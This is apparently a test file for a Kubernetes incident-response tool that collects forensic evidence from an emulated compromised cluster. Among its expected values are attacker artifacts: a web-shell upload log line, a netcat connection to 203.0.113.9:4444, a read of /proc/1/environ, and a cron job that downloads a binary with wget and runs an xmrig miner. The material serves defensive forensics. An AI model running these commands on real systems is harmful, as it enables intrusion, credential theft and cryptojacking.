// Every collector through the real client against the Kubernetes API emulator running a small
// compromised cluster (fixtures/small.yaml), plus the failure modes a responder must see
// reported rather than hidden: 403 with per-namespace fallback, exec forbidden, distroless.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { startKubeEmulator, type KubeEmulator } from '../../emulators/kube/index.js';
import { connectCluster } from '../../../src/core/cluster/connect.js';
import type { ClusterApi, ExecResult } from '../../../src/core/cluster/api.js';
import { statCandidates } from '../../../src/core/collectors/commandHistory.js';
import type { CollectOptions } from '../../../src/core/collectors/types.js';
import type { ArtifactId } from '../../../src/core/schema/artifacts.js';
import { TABLES, type RowByTable, type TableName } from '../../../src/core/schema/tables.js';
import { normalizeTime } from '../../../src/core/schema/time.js';
import { takeSnapshot } from '../../../src/core/snapshot.js';
import { verifyBundle } from '../../../src/core/evidence/verify.js';
import { collectAndDerive, type DerivedRun } from '../../support/derived.js';
import { tempDir } from '../../support/tempDir.js';

const FIXTURE = new URL('./fixtures/small.yaml', import.meta.url).pathname;
const NORMALIZED = /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{7}Z$/;
/** Every container log request (a fault path: a regular expression without the query). */
const LOG_PATH = '^/api/v1/namespaces/[^/]+/pods/[^/]+/log$';

let emu: KubeEmulator;
let api: ClusterApi;
let kubeconfig: string;
const signal = new AbortController().signal;

before(async () => {
  emu = await startKubeEmulator({ scenario: FIXTURE });
  kubeconfig = join(await tempDir('kfs-coll-'), 'kubeconfig.yaml');
  await emu.writeKubeconfig(kubeconfig);
  api = (await connectCluster({ kubeconfig, signal })).api;
});

after(async () => {
  await emu?.close();
});

/** Collects `artifact` into fresh raw evidence and derives its rows, as a snapshot would. */
async function run(artifact: ArtifactId, opts: Partial<CollectOptions> = {}): Promise<DerivedRun> {
  const out = await collectAndDerive(api, artifact, { excludeNamespaces: ['ignored'], concurrency: 4, ...opts });
  assert.deepEqual(out.errors, [], 'the derivation replays the raw evidence without error');
  for (const [table, rows] of out.rows) {
    const def = TABLES.find((t) => t.name === table)!;
    for (const r of rows) {
      // Every derived row carries exactly its table's columns, in schema order, stamped by the bundle.
      assert.deepEqual(Object.keys(r), def.columns.map((c) => c.name), `columns of ${table}`);
      assert.equal(r.TimeGenerated, normalizeTime(out.options.now), 'TimeGenerated is the snapshot start');
      assert.equal(r.SnapshotId, out.input.stamp.snapshotId);
      if (r.EventTime !== null) assert.match(String(r.EventTime), NORMALIZED);
      assert.ok(!String(r.Summary).includes('\n'), 'Summary is one line');
    }
  }
  return out;
}

function rowsOf<T extends TableName>(r: DerivedRun, table: T): RowByTable[T][] {
  return (r.rows.get(table) ?? []) as unknown as RowByTable[T][];
}

test('events: core/v1 and events.k8s.io/v1 de-duplicated, excluded namespaces left out', async () => {
  const r = await run('events');
  const rows = rowsOf(r, 'kubeevents_CL');
  assert.equal(rows.length, 1, 'the mirrored events.k8s.io/v1 copy is not a second row; the ignored namespace is excluded');
  const e = rows[0]!;
  assert.equal(e.Reason, 'Killing');
  assert.equal(e.ApiSource, 'core/v1');
  assert.equal(e.PodName, 'web-7d4b9');
  assert.equal(e.ContainerName, 'nginx');
  assert.equal(e.K8sEventType, 'Warning');
  assert.equal(e.EventType, 'K8sEvent');
  assert.deepEqual(r.gaps, []);
});

test('pod inventory: images with digests, owner, security spec, and lifecycle rows for the timeline', async () => {
  const r = await run('podInventory');
  const rows = rowsOf(r, 'podinventory_CL');
  const web = rows.find((x) => x.PodName === 'web-7d4b9' && x.EventType === 'PodCreated')!;
  assert.equal(web.OwnerKind, 'ReplicaSet');
  assert.equal(web.ServiceAccountName, 'web');
  assert.equal(web.NodeName, 'aks-nodepool1-0');
  const containers = web.Containers as { name: string; kind: string; imageID: string }[];
  assert.deepEqual(
    containers.map((c) => [c.name, c.kind, c.imageID]),
    [
      ['init-config', 'init', 'docker.io/library/busybox@sha256:1111'],
      ['nginx', 'container', 'docker.io/library/nginx@sha256:2222'],
      ['sidecar', 'container', 'docker.io/fluent/fluent-bit@sha256:3333'],
      ['debugger', 'ephemeral', 'docker.io/library/busybox@sha256:1111'],
    ],
  );
  assert.deepEqual((web.PodSecurity as { hostPathVolumes: unknown[] }).hostPathVolumes, [{ name: 'host', path: '/', type: 'Directory' }]);
  const last = rows.find((x) => x.EventType === 'ContainerLastTerminated')!;
  assert.deepEqual([last.ContainerName, last.ExitCode, last.Reason, last.RestartCount], ['nginx', 137, 'OOMKilled', 1]);
  const types = new Set(rows.filter((x) => x.PodName === 'web-7d4b9').map((x) => x.EventType));
  for (const t of ['PodCreated', 'PodScheduled', 'ContainerStarted', 'ContainerTerminated', 'ContainerLastTerminated']) assert.ok(types.has(t), t);
  assert.ok(!rows.some((x) => x.Namespace === 'ignored'));
  assert.ok(rows.some((x) => x.Namespace === 'kube-system'), 'kube-system is collected by default');
});

test('container logs: current and previous, init and ephemeral, a 1.5 MB line, non-UTF-8 bytes, progress', async () => {
  const r = await run('containerLogs');
  const rows = rowsOf(r, 'kubelogs_CL');
  const nginx = rows.filter((x) => x.PodName === 'web-7d4b9' && x.ContainerName === 'nginx');
  assert.deepEqual(
    nginx.filter((x) => x.Previous).map((x) => x.Message),
    ['started', 'POST /upload.php 200 (shell.php written)', 'out of memory'],
  );
  assert.deepEqual(nginx.filter((x) => !x.Previous).map((x) => [x.LineNumber, x.Message]), [
    [1, 'GET /healthz 200'],
    [2, 'GET /upload.php?cmd=id 200'],
  ]);
  assert.ok(nginx.every((x) => x.TimestampParsed && x.Image === 'nginx:1.25' && x.NodeName === 'aks-nodepool1-0'));
  assert.equal(rows.find((x) => x.ContainerName === 'init-config')?.ContainerKind, 'init');
  assert.equal(rows.find((x) => x.ContainerName === 'debugger')?.ContainerKind, 'ephemeral');
  assert.ok(nginx.every((x) => x.MessageBase64 === '' && x.LinePart === 0 && !x.NonUtf8), 'UTF-8 lines carry no base64 copy');
  const agent = rows.filter((x) => x.PodName === 'agent');
  assert.equal(agent.length, 3);
  assert.equal(String(agent[0]!.Message).length, 1_500_000, 'the 1.5 MB line is whole in Message');
  assert.equal(agent[0]!.LinePart, 0, 'a line under the piece bound is one row');
  assert.ok(agent[0]!.Summary.length <= 200, 'and cut in Summary only');
  // Non-UTF-8 bytes: Message is a plain decode (U+FFFD), the exact bytes are in MessageBase64,
  // so a real 0xFF byte can never read like the literal text "\xFF".
  assert.equal(agent[1]!.NonUtf8, true);
  assert.equal(agent[1]!.Message, 'bad bytes: \uFFFD\uFFFD end');
  assert.deepEqual(Buffer.from(agent[1]!.MessageBase64, 'base64'), Buffer.from([...Buffer.from('bad bytes: '), 0xff, 0xfe, ...Buffer.from(' end')]));
  assert.equal(agent[2]!.Message, 'after the big ones');
  assert.equal(agent[2]!.MessageBase64, '');
  assert.ok(!rows.some((x) => x.Namespace === 'ignored'));
  assert.deepEqual(r.gaps, [], 'a missing previous log is not a gap');
  const lastProgress = r.progress.at(-1)!;
  assert.equal(lastProgress.done, lastProgress.total);
  assert.equal(lastProgress.total, 7, 'every container (init, regular, ephemeral) of the four collected pods');
});

test('command history: real times from bash, zsh and fish; distroless and no-cat are status rows and gaps', async () => {
  const r = await run('commandHistory');
  const rows = rowsOf(r, 'commandhistory_CL');
  const cmds = rows.filter((x) => x.EventType === 'HistoryCommand');
  const curl = cmds.find((x) => String(x.Command).startsWith('curl'))!;
  assert.equal(curl.TimeSource, 'bash-timestamp');
  assert.equal(curl.User, 'root');
  assert.equal(curl.HistoryFile, '/root/.bash_history');
  assert.equal(curl.Shell, 'bash');
  assert.match(String(curl.FileModifiedTime), NORMALIZED);
  const ls = cmds.find((x) => x.Command === 'ls -la')!;
  assert.equal(ls.TimeSource, 'file-mtime');
  assert.equal(ls.EventTime, ls.FileModifiedTime);
  assert.equal(cmds.find((x) => x.Shell === 'zsh')?.User, 'alice');
  assert.equal(cmds.find((x) => x.Shell === 'zsh')?.TimeSource, 'zsh-extended');
  assert.equal(cmds.find((x) => x.Shell === 'fish')?.Command, 'nc 203.0.113.9 4444');
  assert.equal(cmds.find((x) => x.Shell === 'fish')?.TimeSource, 'fish-when');
  assert.ok(cmds.some((x) => x.ContainerName === 'debugger' && x.Command === 'cat /proc/1/environ'), 'ephemeral debug containers are read too');
  const status = (pod: string) => rows.find((x) => x.EventType === 'HistoryStatus' && x.PodName === pod)!;
  assert.equal(status('static-api').CollectionStatus, 'distroless');
  assert.equal(status('nocat').CollectionStatus, 'no-cat');
  assert.equal(rows.find((x) => x.EventType === 'HistoryStatus' && x.ContainerName === 'nginx')?.CollectionStatus, 'ok');
  assert.equal(status('agent').CollectionStatus, 'not-found');
  assert.deepEqual(r.gaps.map((g) => [g.scope, g.status]).sort(), [
    ['exec into prod/nocat/tool', 'skipped'],
    ['exec into prod/static-api/api', 'skipped'],
  ]);
});

test('command history: a container without history costs one exec, and a name faking a folder header hides no candidate', async () => {
  const before = emu.requests.length;
  const r = await run('commandHistory');
  const agentExecs = emu.requests.slice(before).filter((q) => q.path.startsWith('/api/v1/namespaces/kube-system/pods/agent/exec'));
  assert.equal(agentExecs.length, 1, 'one listing of /home and /root, nothing to stat or read');
  assert.equal(rowsOf(r, 'commandhistory_CL').find((x) => x.PodName === 'agent')?.CollectionStatus, 'not-found');

  // /home holds a folder whose name carries a newline and a fake "/root:" header, then a real user.
  const listing = Buffer.from('/home:\na\n/root:\n.zsh_history\nbob\n\n/root:\n.bash_history\n');
  const asked = (outcome: ExecResult['outcome']) =>
    statCandidates({ outcome, exitCode: outcome === 'ok' ? 0 : 2, stdout: listing, stderr: '', truncated: false, message: '' }).map((c) => c.path);
  const paths = asked('ok');
  assert.ok(paths.includes('/home/bob/.bash_history'), 'bob is still a user although a fake header came before him');
  assert.ok(paths.includes('/root/.bash_history') && paths.includes('/root/.zsh_history'));
  assert.ok(!paths.includes('/root/.ash_history'), 'root files ls did not list are not asked for when ls succeeded');
  assert.ok(asked('nonzero-exit').includes('/root/.ash_history'), 'when ls failed on a folder, every root candidate is asked for');
});

test('command history: a file over the bound keeps its newest bytes and is marked truncated', async () => {
  const r = await run('commandHistory', { historyMaxBytes: 40 });
  const rows = rowsOf(r, 'commandhistory_CL').filter((x) => x.HistoryFile === '/root/.bash_history' && x.ContainerName === 'nginx');
  const cmds = rows.filter((x) => x.EventType === 'HistoryCommand');
  assert.ok(cmds.length > 0 && cmds.every((x) => x.CollectionStatus === 'truncated'));
  assert.equal(cmds.at(-1)!.Command, 'ls -la', 'the end of the file (newest commands) is what was read');
  assert.ok(!cmds.some((x) => String(x.Command).startsWith('curl')));
  assert.ok(r.gaps.some((g) => g.status === 'partial' && g.scope.startsWith('/root/.bash_history in prod/web-7d4b9/nginx')));
});

test('command history: exec forbidden by RBAC and exec switched off are reported, never fatal', async () => {
  const remove = emu.faults.forbidExec({ namespaces: ['prod'] });
  try {
    const r = await run('commandHistory');
    const rows = rowsOf(r, 'commandhistory_CL');
    const prodStatus = rows.filter((x) => x.Namespace === 'prod' && x.EventType === 'HistoryStatus');
    assert.ok(prodStatus.length >= 5 && prodStatus.every((x) => x.CollectionStatus === 'exec-forbidden'));
    assert.ok(r.gaps.filter((g) => g.status === 'forbidden').length >= 5);
    assert.equal(rows.find((x) => x.PodName === 'agent' && x.EventType === 'HistoryStatus')?.CollectionStatus, 'not-found', 'other namespaces still collected');
  } finally {
    remove();
  }
  const off = await run('commandHistory', { execEnabled: false });
  assert.equal(off.rows.size, 0);
  assert.deepEqual(off.gaps.map((g) => g.status), ['skipped']);
});

test('service accounts, RBAC, cron jobs and network policies', async () => {
  const sa = rowsOf(await run('serviceAccounts'), 'serviceaccounts_CL');
  const web = sa.find((x) => x.ServiceAccountName === 'web')!;
  assert.equal(web.AutomountToken, 'false');
  assert.deepEqual(web.SecretNames, ['web-token-abc']);
  assert.deepEqual(web.ImagePullSecretNames, ['acr-pull']);
  assert.equal(web.WorkloadIdentityClientId, '11111111-2222-3333-4444-555555555555');
  assert.equal(sa.find((x) => x.ServiceAccountName === 'default')?.AutomountToken, 'unset');

  const rbac = await run('rbac');
  const bindings = rowsOf(rbac, 'rbacbindings_CL');
  const crb = bindings.filter((x) => x.BindingName === 'default-admin');
  assert.deepEqual(
    crb.map((x) => [x.BindingKind, x.EventType, x.SubjectKind, x.SubjectName, x.SubjectNamespace]),
    [
      ['ClusterRoleBinding', 'ClusterRoleBinding', 'ServiceAccount', 'default', 'prod'],
      ['ClusterRoleBinding', 'ClusterRoleBinding', 'Group', 'system:masters', ''],
    ],
  );
  assert.equal(bindings.find((x) => x.BindingName === 'read-pods')?.BindingKind, 'RoleBinding');
  const roles = rowsOf(rbac, 'rbacroles_CL');
  assert.deepEqual(roles.find((x) => x.RoleName === 'cluster-admin')?.Rules, [
    { apiGroups: ['*'], resources: ['*'], verbs: ['*'] },
    { nonResourceURLs: ['*'], verbs: ['*'] },
  ]);
  assert.equal(roles.find((x) => x.RoleName === 'pod-reader')?.RoleKind, 'Role');

  const cj = rowsOf(await run('cronJobs'), 'cronjobs_CL');
  assert.deepEqual(
    cj.map((x) => [x.ContainerKind, x.ContainerName, x.Image, x.Command, x.Args]),
    [
      ['init', 'fetch', 'alpine:3.19', ['wget'], ['-O', '/w/x', 'http://203.0.113.9/x']],
      ['container', 'sync', 'xmrig/xmrig:6.21', ['/w/x'], ['-o', 'pool.example:3333']],
    ],
  );
  assert.equal(cj[0]!.Schedule, '*/5 * * * *');
  assert.equal(cj[0]!.Suspend, false);
  assert.match(String(cj[0]!.LastScheduleTime), NORMALIZED);
  assert.match(String(cj[0]!.LastSuccessfulTime), NORMALIZED);

  const np = rowsOf(await run('networkPolicies'), 'networkpolicies_CL');
  assert.equal(np.length, 1);
  assert.deepEqual(np[0]!.PolicyTypes, ['Ingress', 'Egress']);
  assert.deepEqual(np[0]!.Egress, [{ to: [{ ipBlock: { cidr: '0.0.0.0/0' } }] }]);
  assert.deepEqual(np[0]!.PodSelector, { matchLabels: { app: 'web' } });
});

test('a 403 on a cluster-wide list falls back to per-namespace lists; namespaces still refused become gaps', async () => {
  const removeCluster = emu.faults.forbid('serviceaccounts', { scope: 'cluster' });
  const removeNs = emu.faults.forbid('serviceaccounts', { namespaces: ['kube-system'] });
  try {
    const r = await run('serviceAccounts');
    assert.deepEqual(rowsOf(r, 'serviceaccounts_CL').map((x) => x.ServiceAccountName).sort(), ['default', 'web']);
    assert.deepEqual(
      r.gaps.map((g) => [g.artifact, g.scope, g.status]),
      [['serviceAccounts', 'serviceaccounts in namespace kube-system', 'forbidden']],
    );
    assert.match(r.gaps[0]!.message, /403 Forbidden/);
    // When namespaces cannot be listed either, the whole kind is one forbidden gap.
    const removeNamespaces = emu.faults.forbid('namespaces');
    try {
      const r2 = await run('serviceAccounts');
      assert.equal(rowsOf(r2, 'serviceaccounts_CL').length, 0);
      assert.deepEqual(r2.gaps.map((g) => [g.scope, g.status]), [['serviceaccounts (all namespaces)', 'forbidden']]);
      assert.match(r2.gaps[0]!.message, /no per-namespace fallback/);
    } finally {
      removeNamespaces();
    }
  } finally {
    removeCluster();
    removeNs();
  }
});

test('a full snapshot through the real collectors: every table filled, forbidden artifact marked, bundle verifies', async () => {
  const remove = emu.faults.forbid('networkpolicies', { group: 'networking.k8s.io' });
  try {
    const out = await tempDir('kfs-coll-snap-');
    const { manifest, bundleDir } = await takeSnapshot({ kubeconfig, outDir: out, options: { excludeNamespaces: ['ignored'] } }, { signal });
    assert.equal(manifest.artifacts.networkPolicies?.status, 'forbidden');
    for (const id of ['events', 'podInventory', 'containerLogs', 'serviceAccounts', 'rbac', 'cronJobs'] as const) {
      assert.equal(manifest.artifacts[id]?.status, 'ok', id);
    }
    assert.equal(manifest.artifacts.commandHistory?.status, 'partial', 'distroless and no-cat containers are gaps');
    for (const t of ['kubeevents_CL', 'podinventory_CL', 'kubelogs_CL', 'commandhistory_CL', 'serviceaccounts_CL', 'rbacbindings_CL', 'rbacroles_CL', 'cronjobs_CL'] as const) {
      assert.ok((manifest.tables[t]?.records ?? 0) > 0, t);
    }
    assert.equal(manifest.cluster.identity, emu.scenario.auth.username);
    assert.equal((await verifyBundle(bundleDir)).ok, true);
  } finally {
    remove();
  }
});

test('cancelling in the middle of the log collection stops every stream promptly', async () => {
  // Every log request is held a while, so streams are in flight when the cancel comes.
  const HOLD_MS = 1500;
  const remove = emu.faults.delay(HOLD_MS, LOG_PATH);
  const ctl = new AbortController();
  let abortedAt = 0;
  const served = emu.requests.length;
  try {
    const r = await collectAndDerive(
      api,
      'containerLogs',
      { excludeNamespaces: ['ignored'], concurrency: 4 },
      {
        signal: ctl.signal,
        onEvent: (ev) => {
          if (ev.kind === 'progress' && ev.done >= 1 && !ctl.signal.aborted) {
            abortedAt = Date.now();
            ctl.abort();
          }
        },
      },
    );
    const stoppedAfter = Date.now() - abortedAt;
    assert.ok(abortedAt > 0, 'a container finished, then the cancel came');
    const err = r.cancelled as Error;
    assert.ok(err && (err.name === 'AbortError' || /cancel|abort/i.test(err.message)), `the collection ended with the cancel: ${String(err)}`);
    assert.ok(stoppedAfter < HOLD_MS / 2, `stopped ${stoppedAfter} ms after the cancel, not when the held streams would have answered`);
    const last = r.progress.at(-1)!;
    assert.ok(last.done >= 1 && last.done < last.total, `stopped at ${last.done}/${last.total} containers, not at the end`);
    // Every request of a stream is in the index; the ones the cancel cut are marked incomplete.
    const logs = r.entries.filter((e) => e.ref.kind === 'log');
    const cut = logs.filter((e) => !e.complete);
    assert.ok(cut.length >= 1, 'streams in flight were cut by the cancel');
    assert.ok(cut.every((e) => /abort|cancel/i.test(e.error ?? '')), `a cut stream is recorded as cancelled: ${cut.map((e) => `${e.status} ${e.error}`).join('; ')}`);
    assert.ok(logs.every((e) => Date.parse(e.startedAt) <= abortedAt + 5), 'no log was asked for after the cancel');
    await emu.settled();
    const asked = emu.requests.slice(served).filter((q) => q.path.includes('/log?'));
    assert.equal(asked.length, logs.length, 'the server saw exactly the indexed log requests');
    assert.ok(asked.every((q) => q.startedAt <= abortedAt + 5));
  } finally {
    remove();
  }
});

test('cancelling a real snapshot while logs stream seals a bundle that verifies and is marked cancelled', async () => {
  // Logs are held a while, so the cancel comes while streams are in flight.
  const remove = emu.faults.delay(300, LOG_PATH);
  try {
    const out = await tempDir('kfs-coll-cancel-');
    const ctl = new AbortController();
    // Artifacts run side by side after events: the ones that ended before the cancel keep their status.
    const endedBefore = new Map<string, string | undefined>();
    const { manifest, bundleDir } = await takeSnapshot(
      { kubeconfig, outDir: out, options: { excludeNamespaces: ['ignored'], concurrency: 2 } },
      {
        signal: ctl.signal,
        onProgress: (e) => {
          if (!ctl.signal.aborted && e.phase === 'end') endedBefore.set(e.artifact, e.status);
          if (e.artifact === 'containerLogs' && e.phase === 'progress' && e.done >= 1) ctl.abort();
        },
      },
    );
    assert.equal(manifest.status, 'cancelled');
    assert.equal(manifest.artifacts.events?.status, 'ok', 'events ran first, alone, and were done');
    assert.equal(manifest.artifacts.containerLogs?.status, 'cancelled');
    for (const [id, report] of Object.entries(manifest.artifacts)) {
      if (endedBefore.has(id)) assert.notEqual(report!.status, 'cancelled', `${id} had ended before the cancel`);
      else assert.equal(report!.status, 'cancelled', `${id} was still running at the cancel`);
    }
    assert.ok(endedBefore.size < Object.keys(manifest.artifacts).length, 'some artifact was cut');
    // The raw evidence checks, and the sealed tables are what that raw evidence derives to.
    const report = await verifyBundle(bundleDir, { derived: true });
    assert.deepEqual(report.problems, []);
    assert.equal(report.ok, true);
  } finally {
    remove();
  }
});

test('logs forbidden by RBAC (pods/log) are forbidden gaps per container, not a failure', async () => {
  const remove = emu.faults.forbid('pods/log');
  try {
    const r = await run('containerLogs');
    assert.equal(r.rows.size, 0, 'no log rows and no findings');
    assert.ok(r.gaps.length >= 7);
    const logs = r.entries.filter((e) => e.ref.kind === 'log');
    assert.ok(logs.length >= 7 && logs.every((e) => e.status === 403 && e.reason === 'Forbidden'), 'every refused request is in the acquisition index');
    assert.ok(r.gaps.every((g) => g.status === 'forbidden' && /403 Forbidden/.test(g.message)));
    assert.ok(r.gaps.some((g) => g.scope === 'previous log of prod/web-7d4b9/nginx'));
  } finally {
    remove();
  }
});

/** The most requests the server had open at once (an end and a start at the same ms: the end came first). */
function peakInFlight(entries: readonly { startedAt: number; endedAt?: number }[]): number {
  const edges = entries.flatMap((e) => [
    { t: e.startedAt, d: 1 },
    { t: e.endedAt ?? Number.POSITIVE_INFINITY, d: -1 },
  ]);
  edges.sort((a, b) => a.t - b.t || a.d - b.d);
  let open = 0;
  let peak = 0;
  for (const e of edges) peak = Math.max(peak, (open += e.d));
  return peak;
}

test('one full TLS handshake per snapshot: lists share keep-alive connections and every exec resumes a session', async () => {
  const first = emu.requests.length;
  const out = await tempDir('kfs-coll-resume-');
  const { manifest } = await takeSnapshot({ kubeconfig, outDir: out, options: { excludeNamespaces: ['ignored'], concurrency: 1 } }, { signal: new AbortController().signal });
  assert.notEqual(manifest.status, 'failed');
  await emu.settled();
  const execs = emu.requests.slice(first).filter((r) => r.path.includes('/exec?'));
  assert.ok(execs.length >= 3, `the snapshot ran ${execs.length} execs`);
  // One request at a time through one agent: the first connection makes the one full handshake,
  // the lists and logs reuse connections, and each exec (a connection of its own) resumes its session.
  const full = new Set(emu.requests.slice(first).filter((r) => !r.tlsResumed).map((r) => r.connection));
  assert.equal(full.size, 1, `${full.size} connections made a full TLS handshake`);
  assert.ok(execs.every((r) => r.tlsResumed));
});

test('--concurrency bounds the requests in flight to the API server across every artifact, not per artifact', async () => {
  // Every request is held a while, so side-by-side artifacts would overlap if nothing bounded them.
  const remove = emu.faults.delay(20);
  try {
    for (const concurrency of [1, 3]) {
      const first = emu.requests.length;
      const out = await tempDir('kfs-coll-inflight-');
      const { manifest } = await takeSnapshot({ kubeconfig, outDir: out, options: { excludeNamespaces: ['ignored'], concurrency } }, { signal: new AbortController().signal });
      assert.notEqual(manifest.status, 'failed');
      await emu.settled();
      const seen = emu.requests.slice(first);
      assert.ok(seen.length > 20, `the snapshot made ${seen.length} requests`);
      const peak = peakInFlight(seen);
      assert.ok(peak <= concurrency, `--concurrency ${concurrency}: the server had ${peak} requests open at once`);
      // And the bound is used, not undercut: with room for 3, requests do run side by side.
      if (concurrency > 1) assert.ok(peak > 1, `--concurrency ${concurrency}: never more than one request at once`);
    }
  } finally {
    remove();
  }
});
